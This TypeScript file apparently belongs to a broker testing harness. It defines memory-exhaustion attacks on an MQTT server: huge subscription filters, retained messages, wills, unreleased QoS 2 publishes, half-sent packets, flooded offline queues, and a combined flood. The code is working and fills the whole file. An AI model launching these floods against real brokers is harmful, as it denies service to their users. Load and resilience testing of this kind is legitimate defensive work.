import { setTimeout as delay } from 'node:timers/promises';
import type { IPublishPacket, Packet } from 'mqtt-packet';
import { generate } from 'mqtt-packet';
import { addresses, login } from '../attacker/credentials.ts';
import { inLanes } from '../attacker/lanes.ts';
import { RawClient } from '../attacker/raw-client.ts';
import type { Attack, Attacker } from './attack.ts';

const kilobyte = 1_000;
const filters = 3_750;
const filterBytes = 50 * kilobyte;
const retainedMessages = 1_000;
const retainedBytes = 200 * kilobyte;
const wills = 2_000;
const willBytes = 60 * kilobyte;
const heldClients = 60;
const heldBytes = 15_000 * kilobyte;
const unfinishedPackets = 1_000;
const unfinishedBytes = 255 * kilobyte;
/** Sessions of absent clients whose queues one client fills. */
const absentSessions = 50;
/** Payload that fits into one packet of the default size. */
const largePayload = 200 * kilobyte;
/** Publishes of one attacker that wait for their acknowledgement. */
const publishWindow = 20;
const filtersOfPacket = 5;
/** Clients that share a flood. */
const manyClients = 20;
const filtersOfMany = 300;
const sessionExpirySeconds = 3_600;
const packetIdMax = 60_000;

/** Attacks of a known client that fills memory. */
export const memoryAttacks: readonly Attack[] = [
  { name: 'large-filters', title: `one client subscribes to ${filters} filters of 50 KB`, run: largeFilters },
  {
    name: 'large-retained',
    title: `one client publishes ${retainedMessages} retained messages of 200 KB`,
    run: (attacker) =>
      publishAll(attacker, retainedMessages, (number) => ({
        topic: `flood/retained/${number}`,
        payload: Buffer.alloc(retainedBytes, number),
        retain: true,
      })),
  },
  { name: 'large-wills', title: `${wills} clients with wills of 60 KB`, run: largeWills },
  {
    name: 'unreleased-qos2',
    title: `${heldClients} clients with 15 MB of QoS 2 publishes that they never release`,
    run: unreleasedQos2,
  },
  {
    name: 'unfinished-packets',
    title: `${unfinishedPackets} clients with an unfinished packet of 255 KB`,
    run: unfinished,
  },
  {
    name: 'queue-bytes',
    title: `one user fills the queues of ${absentSessions} absent sessions with messages of 200 KB`,
    run: queueBytes,
  },
  {
    name: 'sessions',
    title: 'one user leaves as many sessions as possible',
    run: ({ target, gain, signal }) =>
      inLanes(Infinity, 50, signal, async (number) => {
        const client = new RawClient({ ...target, port: target.mqttPort, from: addresses.attacker });
        gain.add(`sessions ${await client.login({ ...login, clientId: `left-${number}`, clean: false })}`);
        client.destroy();
      }),
  },
  {
    name: 'retained-count',
    title: 'one user leaves as many small retained messages as possible',
    run: (attacker) =>
      publishAll(attacker, Infinity, (number) => ({
        topic: `flood/small/${number}`,
        payload: Buffer.from('x'),
        retain: true,
      })),
  },
];

type Message = Pick<IPublishPacket, 'topic' | 'payload' | 'retain'>;

/** Floods of `bench memory` only: no bound of one client or user holds them. */
export const sharedFloods: readonly Attack[] = [
  {
    name: 'filters-of-many',
    title: `${manyClients} persistent clients, each with ${filtersOfMany} filters of 50 KB`,
    run: filtersOfManyClients,
  },
  {
    name: 'retained-of-many',
    title: `${manyClients} clients publish ${retainedMessages} retained messages of 200 KB together`,
    run: (attacker) =>
      inLanes(manyClients, 4, attacker.signal, (client) =>
        publishAll(
          attacker,
          retainedMessages / manyClients,
          (number) => ({
            topic: `flood/many/${client}/${number}`,
            payload: Buffer.alloc(retainedBytes, number),
            retain: true,
          }),
          `many-retained-${client}`,
        ),
      ),
  },
];

/** Several floods at once, each in a process of its own. */
const partsOfEverything: readonly Attack['run'][] = [
  ...sharedFloods.map(({ run }) => run),
  queueBytes,
  largeWills,
  unreleasedQos2,
  unfinished,
];

export const everything: Attack = {
  name: 'everything',
  title: 'filters and retained messages of many clients, queues, wills, QoS 2 and unfinished packets at once',
  parts: partsOfEverything.length,
  run: (attacker) => partsOfEverything[attacker.target.part]!(attacker),
};

/** Connects as the attacker; connects again when the server closes the connection. */
async function attackerClient(
  { target, gain, signal }: Attacker,
  clientId: string,
  options: Parameters<RawClient['login']>[0] | object = {},
  version: 4 | 5 = 4,
): Promise<RawClient> {
  for (;;) {
    const client = new RawClient({ ...target, port: target.mqttPort, from: addresses.attacker }, version);
    const outcome = await client.login({ ...login, ...options, clientId });
    gain.add(`clients ${outcome}`);
    if (outcome === 'accepted' || signal.aborted) return client;
    client.destroy();
    await delay(500);
  }
}

/** Publishes messages with QoS 1 over MQTT 5, so that the server can refuse each one with a reason code. */
async function publishAll(
  attacker: Attacker,
  count: number,
  messageOf: (number: number) => Message,
  clientId = 'mallory-publisher',
): Promise<void> {
  let next = 0;
  while (next < count && !attacker.signal.aborted) {
    const client = await attackerClient(attacker, clientId, {}, 5);
    next = await publishFrom(attacker, client, next, count, messageOf);
  }
}

/** Returns the number of the next message when the connection closes or all messages are answered. */
async function publishFrom(
  { gain }: Attacker,
  client: RawClient,
  first: number,
  count: number,
  messageOf: (number: number) => Message,
): Promise<number> {
  let next = first;
  let open = 0;
  return new Promise((resolve) => {
    const fill = (): void => {
      while (open < publishWindow && next < count && !client.hasClosed) {
        const messageId = 1 + (next % packetIdMax);
        client.send({ cmd: 'publish', qos: 1, dup: false, messageId, ...messageOf(next++) });
        open++;
      }
      if (open === 0) resolve(next);
    };
    client.onPacket((packet) => {
      if (packet.cmd !== 'puback') return;
      open--;
      const refused = (packet.reasonCode ?? 0) >= 0x80;
      gain.add(refused ? 'publishes refused' : 'publishes acknowledged');
      fill();
    });
    void client.closed.then(() => {
      gain.add('connections closed');
      resolve(next);
    });
    fill();
  });
}

async function largeFilters(attacker: Attacker): Promise<void> {
  const { gain, signal } = attacker;
  while (!signal.aborted) {
    const client = await attackerClient(attacker, 'mallory-filters', { clean: false }, 5);
    client.onPacket((packet) => countGranted(packet, gain.add.bind(gain)));
    await subscribeTo(client, filters);
    await client.closed;
    gain.add('connections closed');
    await delay(500);
  }
}

async function subscribeTo(client: RawClient, count: number): Promise<void> {
  for (let sent = 0; sent < count && !client.hasClosed; sent += filtersOfPacket) {
    client.send(subscribePacket(sent));
    await client.drained();
  }
}

function subscribePacket(first: number): Packet {
  return {
    cmd: 'subscribe',
    messageId: 1 + (first % packetIdMax),
    subscriptions: Array.from({ length: filtersOfPacket }, (_, index) => ({
      topic: `${first + index}/${'f'.repeat(filterBytes)}`,
      qos: 0 as const,
    })),
  };
}

/** All clients connect first, because a member with too little memory rejects new clients, but not those it has. */
async function filtersOfManyClients(attacker: Attacker): Promise<void> {
  const { gain, signal } = attacker;
  const properties = { sessionExpiryInterval: sessionExpirySeconds };
  const clients: RawClient[] = [];
  await inLanes(manyClients, manyClients, signal, async (number) => {
    const client = await attackerClient(attacker, `many-${number}`, { clean: false, properties }, 5);
    clients.push(client);
  });
  // Each client waits for the answer: a member refuses filters beyond the commands that may wait for its log.
  await Promise.all(
    clients.map(async (client) => {
      for (let sent = 0; sent < filtersOfMany && !client.hasClosed; sent += filtersOfPacket) {
        const answered = new Promise<void>((resolve) =>
          client.onPacket((packet) => {
            countGranted(packet, gain.add.bind(gain));
            if (packet.cmd === 'suback') resolve();
          }),
        );
        client.send(subscribePacket(sent));
        await Promise.race([answered, client.closed]);
      }
    }),
  );
}

function countGranted(packet: Packet, add: (what: string, count: number) => void): void {
  if (packet.cmd !== 'suback') return;
  const refused = packet.granted.filter((code) => Number(code) >= 0x80).length;
  add('filters granted', packet.granted.length - refused);
  add('filters refused', refused);
}

async function largeWills({ target, gain, signal }: Attacker): Promise<void> {
  const payload = Buffer.alloc(willBytes, 'w');
  await inLanes(wills, 50, signal, async (number) => {
    const client = new RawClient({ ...target, port: target.mqttPort, from: addresses.attacker });
    const outcome = await client.login({
      ...login,
      clientId: `will-${number}`,
      will: { topic: `flood/will/${number}`, payload, qos: 1, retain: false },
    });
    gain.add(`wills ${outcome}`);
    if (outcome !== 'accepted') client.destroy();
  });
}

async function unreleasedQos2(attacker: Attacker): Promise<void> {
  const { gain, signal } = attacker;
  const count = Math.floor(heldBytes / largePayload);
  await inLanes(heldClients, heldClients, signal, async (number) => {
    while (!signal.aborted) {
      const client = await attackerClient(attacker, `held-${number}`);
      // A received PUBREC is never answered with PUBREL.
      client.onPacket(({ cmd }) => cmd === 'pubrec' && gain.add('publishes received (PUBREC)'));
      for (let sent = 0; sent < count && !client.hasClosed; sent++) {
        // Packet identifiers of one client must differ as long as they are not released.
        client.send({
          cmd: 'publish',
          topic: `flood/held/${number}`,
          qos: 2,
          dup: false,
          retain: false,
          messageId: sent + 1,
          payload: Buffer.alloc(largePayload),
        });
        await client.drained();
        gain.add('MB sent', largePayload / 1_000_000);
      }
      await client.closed;
      gain.add('connections closed');
      await delay(200);
    }
  });
}

async function unfinished(attacker: Attacker): Promise<void> {
  const { gain, signal } = attacker;
  const whole = generate({
    cmd: 'publish',
    topic: 'flood/unfinished',
    qos: 1,
    dup: false,
    retain: false,
    messageId: 1,
    payload: Buffer.alloc(unfinishedBytes),
  });
  const part = whole.subarray(0, whole.length - 1);
  await inLanes(unfinishedPackets, 100, signal, async (number) => {
    const client = await attackerClient(attacker, `unfinished-${number}`);
    client.write(part);
    await client.drained();
    gain.add('MB sent', part.length / 1_000_000);
    void client.closed.then(() => gain.add('connections closed'));
  });
}

async function queueBytes(attacker: Attacker): Promise<void> {
  const { gain, signal } = attacker;
  for (let number = 0; number < absentSessions && !signal.aborted; number++) {
    const client = await attackerClient(attacker, `absent-${number}`, { clean: false });
    const subscribed = new Promise<void>((resolve) =>
      client.onPacket(({ cmd }) => cmd === 'suback' && resolve()),
    );
    client.send({
      cmd: 'subscribe',
      messageId: 1,
      subscriptions: [{ topic: `flood/queue/${number}`, qos: 1 }],
    });
    await Promise.race([subscribed, client.closed]);
    client.destroy();
    gain.add('absent sessions');
  }
  // Each session has a topic of its own: a body that many queues share would count once.
  await publishAll(attacker, Infinity, (number) => ({
    topic: `flood/queue/${number % absentSessions}`,
    payload: Buffer.alloc(largePayload, number),
    retain: false,
  }));
}
